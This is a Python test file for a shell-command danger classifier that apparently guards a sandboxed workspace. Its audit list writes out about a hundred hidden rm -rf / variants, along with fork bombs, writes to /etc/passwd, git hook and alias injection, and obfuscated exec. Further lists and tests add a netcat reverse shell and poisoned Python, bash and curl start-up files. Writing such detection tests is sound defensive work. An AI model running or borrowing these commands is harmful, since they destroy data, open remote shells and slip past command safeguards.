"""The audit of the classifier that parses commands (tools/shell/): every form it found, with the level it must
have, in a real workspace (x.sh there holds ``rm -rf /``); benign look-alikes and daily work that must stay
quiet; and the policy underneath: a program the classifier does not know asks."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from tools.dangerous import classify


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    (root / "src").mkdir(parents=True)
    (root / "x.sh").write_text("rm -rf /\n")
    (root / "good.sh").write_text("#!/bin/sh\nls -la\ngrep -c x good.sh\n")
    (root / "good.sh").chmod(0o755)
    (root / "good.py").write_text("import json, os\nprint(json.dumps(dict(os.environ)))\n"
                                  "with open('out.json', 'w') as f:\n    f.write('{}')\n")
    for name in ("a.tar", "a.zip", "notes.txt", "data.txt", "list.txt"):
        (root / name).write_text("a\nb\n")
    (tmp_path / "outside.txt").write_text("x\n")
    os.symlink(tmp_path / "outside.txt", root / "link.txt")
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "hooks" / "pre-commit.sample").write_text("rm -rf /\n")  # samples never run
    (root / ".git" / "config").write_text('[core]\n\tbare = false\n[remote "origin"]\n\turl = https://x/y.git\n')
    return root


H, D, S = "hardline", "dangerous", "safe"

# (the audit's item, command, level). Where the audit asks for "approval (or hardline)", hardline is
# what the classifier finds when the hidden command is ``rm -rf /`` and it can see it.
AUDIT = [
    ("1 named coproc", "coproc x { rm -rf /; }", H),
    ("2 hash -p", "hash -p /bin/rm ls; ls -rf /", H),
    ("3 declare -i subscript", "declare -i x='a[$(rm -rf /)]'", H),
    ("3 test -v subscript", "test -v 'a[$(rm -rf /)]'", H),
    ("3 [[ -v subscript", "[[ -v 'a[$(rm -rf /)]' ]]", H),
    ("3 printf -v subscript", "printf -v 'a[$(rm -rf /)]' x", H),
    ("3 read subscript", "read 'a[$(rm -rf /)]' <<< x", H),
    ("3 let subscript", "let 'a[$(rm -rf /)]'", H),
    ("3 (( x )) of a subscript", "x='a[$(rm -rf /)]'; (( x ))", H),
    ("3 $((x)) of a subscript", "x='a[$(rm -rf /)]'; echo $((x))", H),
    ("4 exec <file", "exec <x.sh; bash", H),
    ("4 exec 3<file, <&3", "exec 3<x.sh; bash <&3", H),
    ("5 tar --to-command", "tar --to-command='rm -rf /' -xf a.tar", H),
    ("5 tar --checkpoint-action", "tar --checkpoint-action=exec='rm -rf /' -cf b.tar x.sh", H),
    ("5 tar --use-compress-program", "tar --use-compress-program='rm -rf /' -xf a.tar", H),
    ("5 tar -I", "tar -I 'rm -rf /' -xf a.tar", H),
    ("6 zip -TT", "zip -T -TT 'rm -rf /' a.zip x.sh", H),
    ("7 vim -c", "vim -c '!rm -rf /'", D),
    ("7 vim -es", "vim -es -c '!rm -rf /'", D),
    ("7 ex -sc", "ex -sc '!rm -rf /'", D),
    ("7 nvim --cmd", "nvim --cmd '!rm -rf /'", D),
    ("7 emacs --eval", "emacs --batch --eval '(shell-command \"rm -rf /\")'", D),
    ("7 man -P", "man -P 'rm -rf /' ls", H),
    ("7 man --pager=", "man --pager='rm -rf /' ls", H),
    ("7 less +!", "less +'!rm -rf /' x.sh", D),
    ("7 gdb -ex !", "gdb -batch -ex '!rm -rf /'", D),
    ("7 gdb -ex shell", "gdb -batch -ex 'shell rm -rf /'", D),
    ("8 expect -c", "expect -c 'exec rm -rf /'", D),
    ("8 tclsh", "tclsh <<< 'exec rm -rf /'", D),
    ("8 Rscript -e", "Rscript -e 'system(\"rm -rf /\")'", D),
    ("8 julia -e", "julia -e 'run(`rm -rf /`)'", D),
    ("8 make --eval", "make --eval='x:; rm -rf /' x", H),
    ("8 make -f /dev/stdin", "make -f /dev/stdin <<< 'a:; rm -rf /'", H),
    ("9 npm exec --", "npm exec -- rm -rf /", H),
    ("9 npm x --", "npm x -- rm -rf /", H),
    ("9 npx -c", "npx -c 'rm -rf /'", H),
    ("9 uv run", "uv run rm -rf /", H),
    ("9 poetry run", "poetry run rm -rf /", H),
    ("10 git --config-env=", "X='rm -rf /' git --config-env=core.fsmonitor=X status", H),
    ("10 git config -f then alias", "git config -f .git/config alias.x '!rm -rf /'; git x", H),
    ("10 [alias] appended to .git/config", "printf '[alias]\\n\\tx = !rm -rf ~/y\\n' >> .git/config; git x", D),
    ("10 fsmonitor appended to .git/config", "echo '[core] fsmonitor = rm -rf ~/y' >> .git/config; git status", D),
    ("10 a hook written, then commit", "echo 'rm -rf ~/y' > .git/hooks/pre-commit; git commit -m x", D),
    ("10 submodule foreach, one argument", "git submodule foreach 'rm -rf ~'", H),
    ("11 awk print | sh", "awk '{print | \"sh\"}' x.sh", D),
    ("12 python getattr concatenated", "python3 -c 'import os; f=getattr(os,\"sys\"+\"tem\"); f(\"rm -rf /\")'", H),
    ("12 python __dict__", "python3 -c 'import os; os.__dict__[\"system\"](\"rm -rf /\")'", D),
    ("12 python eval import", "python3 -c 'eval(\"__imp\"+\"ort__(\\\"os\\\")\").system(\"rm -rf /\")'", D),
    ("12 python unlink on computed paths",
     "python3 -c 'import pathlib; [p.unlink() for p in pathlib.Path(\"/\").rglob(\"*\")]'", D),
    ("12 node computed member", "node -e 'const c=require(\"child_process\"); c[\"exec\"+\"Sync\"](\"rm -rf /\")'", H),
    ("12 node concatenated require", "node -e 'require(\"child_\"+\"process\").execSync(\"rm -rf /\")'", H),
    ("12 php variable function", "php -r '$f=\"sys\".\"tem\"; $f(\"rm -rf /\");'", D),
    ("13 fork bomb, background", "f(){ f & f; }; f", H),
    ("13 fork bomb, pipe", "b(){ b|b; }; b &", H),
    ("13 perl fork loop", "perl -e 'fork while fork'", H),
    ("14 >> through a symlink", "echo x >> link.txt", D),
    ("14 tee -a through a symlink", "echo x | tee -a link.txt", D),
    ("14 link to home, then >>", "ln -s ~ h; echo x >> h/.bashrc", D),
    ("14 link to /etc, then >>", "ln -s /etc e && echo x >> e/passwd", D),
    ("15 tar -C /", "tar -C / -xf a.tar", D),
    ("15 unzip -d /", "unzip a.zip -d /", D),
    ("15 patch /etc/passwd", "patch /etc/passwd < notes.txt", D),
    ("15 git log --output", "git log --output=/etc/passwd", D),
    ("15 python open w", "python3 -c 'open(\"/etc/passwd\",\"w\")'", D),
    ("15 node writeFileSync", "node -e 'require(\"fs\").writeFileSync(\"/etc/passwd\", \"x\")'", D),
    ("15 chmod 4755", "chmod 4755 /bin/bash", D),
    ("15 chmod 777", "chmod 777 /etc/shadow", D),
    ("15 chown", "chown root:root /etc/passwd", D),
    ("16 PATH=workspace", "PATH=WS:$PATH ls", D),
    ("16 PATH=$PWD", "PATH=\"$PWD:$PATH\" ls", D),
    ("17 enable -f", "enable -f x.so x", D),
    ("18 find -exec rm {} +", "find . -exec rm {} +", D),
    ("18 find -execdir rm {} ;", "find . -execdir rm {} \\;", D),
    ("18 find -delete", "find . -delete", D),
    ("19 systemctl restart", "systemctl restart nginx", D),
    ("19 systemctl edit", "systemctl edit nginx", D),
    ("19 systemctl daemon-reload", "systemctl daemon-reload", D),
    # Hardline that was downgraded to dangerous.
    ("dyn ${a}m", "a=r; ${a}m -rf /", H),
    ("dyn ${IFS}", "rm${IFS}-rf${IFS}/", H),
    ("dyn for loop", "for i in /; do rm -rf $i; done", H),
    ("dyn cd / && rm -rf *", "cd / && rm -rf *", H),
    ("mv /", "mv / x", H),
    ("mv /usr", "mv /usr x", H),
    ("mv ~", "mv ~ /tmp/x", H),
    ("sh -c $0", "sh -c 'rm -rf \"$0\"' /", H),
    ("bash -c $1", "bash -c 'rm -rf $1' _ /", H),
    ("xargs input", "echo / | xargs rm -rf", H),
    ("submodule foreach /", "git submodule foreach 'rm -rf /'", H),
    ("$(<file)", "bash -c \"$(<x.sh)\"", H),
    # Found while closing the classes above.
    ("stdin through a wrapper", "echo 'rm -rf /' | env bash", H),
    ("here-string with a substitution", "bash <<< \"$(echo rm -rf /)\"", H),
    ("IFS reassigned", "IFS=,; c='rm,-rf,/'; $c", H),
    ("find {} as $1", "find / -exec sh -c 'rm -rf \"$1\"' _ {} \\;", H),
    ("function arguments", "f(){ rm -rf \"$1\"; }; f /", H),
    ("set --", "set -- /; rm -rf \"$1\"", H),
    ("${x@P}", "x='$(rm -rf /)'; echo ${x@P}", H),
    ("compgen -C", "compgen -C 'rm -rf /' x", H),
    ("mapfile -C", "mapfile -C 'rm -rf /' -c 1 < notes.txt", H),
    ("diff3 --diff-program", "diff3 --diff-program='rm -rf /' a b c", H),
    ("python fork loop", "python3 -c 'while True: __import__(\"os\").fork()'", H),
    ("php callable string", "php -r 'array_map(\"system\", [\"rm -rf /\"]);'", D),
    ("rsync into /etc", "rsync -a src/ /etc/", D),
    ("time -o", "time -o /etc/x ls", D),
    ("node --test", "node --test", D),
    ("history -w", "history -w ~/.bashrc", D),
    ("node package", "node -e 'require(\"left-pad\")'", D),
]


@pytest.mark.parametrize(("item", "command", "level"), AUDIT, ids=[a[0] for a in AUDIT])
def test_every_audit_form(ws: Path, item: str, command: str, level: str) -> None:
    verdict = classify(command.replace("WS", str(ws)), workspace=str(ws))
    assert verdict.level == level, (item, command, verdict)
    assert verdict.reason


FORK_BOMB_LOOK_ALIKES = ["echo ':(){ :|:& };:'", "git commit -m ':(){ :|:& };:'",
                         "grep -F ':(){ :|:& };:' notes.txt", "printf '%s\\n' 'bomb(){ bomb|bomb& };bomb'",
                         "f(){ echo f; }; f"]

DAILY = [
    "ls -la", "ls -la /", "cat notes.txt", "head -n 20 x.sh", "tail -n 5 notes.txt", "grep -rn 'TODO' .",
    "rg -n 'def main' src", "find . -name '*.py' -type f", "find . -name '*.py' | xargs wc -l", "wc -l *.txt",
    "sort data.txt | uniq -c | sort -rn | head", "diff notes.txt data.txt",
    "diff -u <(sort notes.txt) <(sort data.txt)",
    "echo hello", "printf '%s\\n' a b c", "pwd", "date", "date -u +%Y-%m-%d", "which python3", "file x.sh",
    "stat x.sh", "du -sh .", "df -h", "env", "printenv PATH", "git status", "git log --oneline -n 10",
    "git diff HEAD~1", "git show HEAD --stat", "git branch -a", "git add -A",
    "git add src && git commit -m 'fix: handle empty input'", "git commit -am wip", "git checkout -b feature/x",
    "git switch main", "git stash", "git stash pop", "git fetch origin", "git pull --rebase",
    "git push origin feature/x", "git remote -v", "git blame x.sh", "git rev-parse HEAD", "git ls-files | head",
    "git tag v1.0", "git log -p -- x.sh | head -50", "git config user.name Bot", "git -c core.pager=less log",
    "python3 -c 'print(1+1)'", "python3 -c 'import json,sys; print(json.dumps({\"a\": 1}))'",
    "python3 -m json.tool notes.txt", "python3 --version", "python3 good.py", "node --version",
    "node -e 'console.log(process.version)'", "jq '.name' notes.txt", "cat notes.txt | jq -r '.a'",
    "curl -s https://example.com | jq .x", "curl -sSL -o page.html https://example.com",
    "wget -q https://example.com/file.tar.gz", "tar -tzf a.tar", "tar -xzf a.tar", "tar -czf backup.tar.gz src",
    "unzip -l a.zip", "unzip a.zip", "gzip -k data.txt", "gunzip -c data.gz | head", "mkdir -p build/out",
    "touch notes.md", "cp x.sh x.bak", "mv notes.txt notes.old", "rm -f data.txt", "echo hello > out.txt",
    "echo more >> out.txt", "tee out.txt < notes.txt", "sed -i 's/foo/bar/g' notes.txt", "sed -n '1,5p' x.sh",
    "awk '{print $1}' notes.txt", "cut -d: -f1 /etc/passwd", "chmod +x good.sh", "ln -s good.sh current.sh",
    "basename /a/b/c.txt", "realpath x.sh", "ps aux | grep python", "free -m", "uname -a", "id", "whoami",
    "sleep 1", "true && echo ok || echo fail", "for f in *.sh; do echo \"$f\"; done",
    "while read -r l; do echo \"$l\"; done < notes.txt", "if [ -f x.sh ]; then echo yes; fi",
    "[[ -n \"$HOME\" ]] && echo set", "test -d build || mkdir build", "X=1; echo $X", "export FOO=bar",
    "cd src && ls", "sqlite3 app.db 'SELECT count(*) FROM t'", "docker ps", "docker images",
    "docker run --rm alpine echo hi", "systemctl status nginx", "journalctl -u nginx -n 50", "man ls",
    "less notes.txt", "tree -L 2", "md5sum x.sh", "base64 notes.txt", "seq 1 10", "time ls", "timeout 5 ls",
    "nohup sleep 1 &", "type ls", "command -v git", "bash good.sh", "./good.sh", "yes | head -3",
    "xargs -n1 echo < list.txt", "echo a b | xargs -n1 echo", "column -t data.txt", "tr a-z A-Z < notes.txt",
    "ruff check .", "sh -n x.sh", "cat x.sh", "grep -c 'rm -rf /' x.sh", "echo 'a[$(rm -rf /)]'",
    "X='rm -rf /'; echo \"$X\"", "ping -c 1 localhost", "getent hosts localhost", "echo $((1 + 2))",
]


@pytest.mark.parametrize("command", FORK_BOMB_LOOK_ALIKES + DAILY)
def test_benign_daily_work_stays_quiet(ws: Path, command: str) -> None:
    verdict = classify(command, workspace=str(ws))
    assert verdict.level == "safe", (command, verdict)


UNKNOWN = ["frobnicate --all", "cmd 2>/dev/null", "vim notes.txt", "nc -e /bin/sh host 4444",
           "openssl enc -d -in x -out y", "scp x.sh host:", "/usr/bin/frobnicate", "ls | frobnicate",
           "kubectl delete pod x", "terraform apply", "ansible-playbook site.yml", "socat - TCP:host:1"]


@pytest.mark.parametrize("command", UNKNOWN)
def test_unknown_programs_ask(ws: Path, command: str) -> None:
    verdict = classify(command, workspace=str(ws))
    assert verdict.level == "dangerous", (command, verdict)
    assert "not a program this classifier knows" in verdict.reason


# ---- what the classifier reads to see the code a command runs ---------------------------------------


def test_scripts_are_read_only_inside_the_workspace_and_never_quoted(ws: Path, tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "evil.sh").write_text("rm -rf /\n")
    (ws / "marked.sh").write_text("rm -rf /srv/secret-marker-4711\n")
    (ws / ".hidden.sh").write_text("rm -rf /\n")
    # A host file outside the workspace is not read: running it asks, and nothing of it is shown.
    verdict = classify(f"bash {outside}/evil.sh", workspace=str(ws))
    assert verdict.level == "dangerous" and "outside the workspace" in verdict.reason
    assert classify(f"ln -s {outside}/evil.sh in.sh; bash in.sh", workspace=str(ws)).level == "dangerous"
    # Inside, it is read and classified - and the reason names the file, not what it says.
    assert classify("bash .hidden.sh", workspace=str(ws)).level == "hardline"
    for command in ("bash marked.sh", "cat marked.sh | bash", "bash -c \"$(<marked.sh)\"", "xargs rm -r < marked.sh"):
        verdict = classify(command, workspace=str(ws))
        assert verdict.level == "dangerous", (command, verdict)
        assert "4711" not in verdict.reason and "secret" not in verdict.reason, verdict.reason


def test_the_repository_configuration_and_hooks_are_checked(ws: Path) -> None:
    assert classify("git status", workspace=str(ws)).level == "safe"
    (ws / ".git" / "config").write_text("[alias]\n\tx = \"!rm -rf /\"\n[core]\n\tbare = false\n")
    assert classify("git x", workspace=str(ws)).level == "hardline"
    assert classify("git status", workspace=str(ws)).level == "safe"  # an alias runs only when used
    (ws / ".git" / "config").write_text("[core]\n\tfsmonitor = rm -rf ~/data\n")
    verdict = classify("git status", workspace=str(ws))
    assert verdict.level == "dangerous" and "data" not in verdict.reason
    (ws / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (ws / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nrm -rf ~\n")
    assert classify("git commit -m x", workspace=str(ws)).level == "hardline"
    (ws / ".git" / "hooks" / "pre-commit").unlink()
    (ws / ".gitconfig").write_text("[alias]\n\ty = !rm -rf /\n")  # the sandbox's $HOME is the workspace
    assert classify("git y", workspace=str(ws)).level == "hardline"
    (ws / ".git" / "config").write_text("[core\n")
    assert classify("git status", workspace=str(ws)).level == "dangerous"


def test_python_modules_from_the_workspace_are_read(ws: Path) -> None:
    assert classify("python3 -c 'import json; print(json.dumps(1))'", workspace=str(ws)).level == "safe"
    (ws / "json.py").write_text("import os\nos.system('rm -rf /')\n")
    assert classify("python3 -c 'import json'", workspace=str(ws)).level == "hardline"
    (ws / "json.py").unlink()
    (ws / "helper.py").write_text("import shutil\nshutil.rmtree('/usr')\n")
    (ws / "main.py").write_text("from helper import x\nprint(x)\n")
    assert classify("python3 main.py", workspace=str(ws)).level == "hardline"
    (ws / "lib").mkdir()
    (ws / "lib" / "util.js").write_text("require('child_process').execSync('rm -rf /')\n")
    assert classify("node -e 'require(\"./lib/util\")'", workspace=str(ws)).level == "hardline"


def test_start_up_files_in_the_sandbox_home_are_checked(ws: Path) -> None:
    assert classify("bash -lc ls", workspace=str(ws)).level == "safe"
    (ws / ".bash_profile").write_text("rm -rf /\n")
    assert classify("bash -lc ls", workspace=str(ws)).level == "hardline"
    assert classify("python3 -c 'print(1)'", workspace=str(ws)).level == "safe"
    site = ws / ".local" / "lib" / "python3.11" / "site-packages"
    site.mkdir(parents=True)
    assert classify("python3 -c 'print(1)'", workspace=str(ws)).level == "safe"  # empty
    (site / "x.pth").write_text("import os; os.system('id')\n")
    assert classify("python3 -c 'print(1)'", workspace=str(ws)).level == "dangerous"
    assert classify("curl -s https://example.com", workspace=str(ws)).level == "safe"
    (ws / ".curlrc").write_text("output = /etc/passwd\n")
    assert classify("curl -s https://example.com", workspace=str(ws)).level == "dangerous"
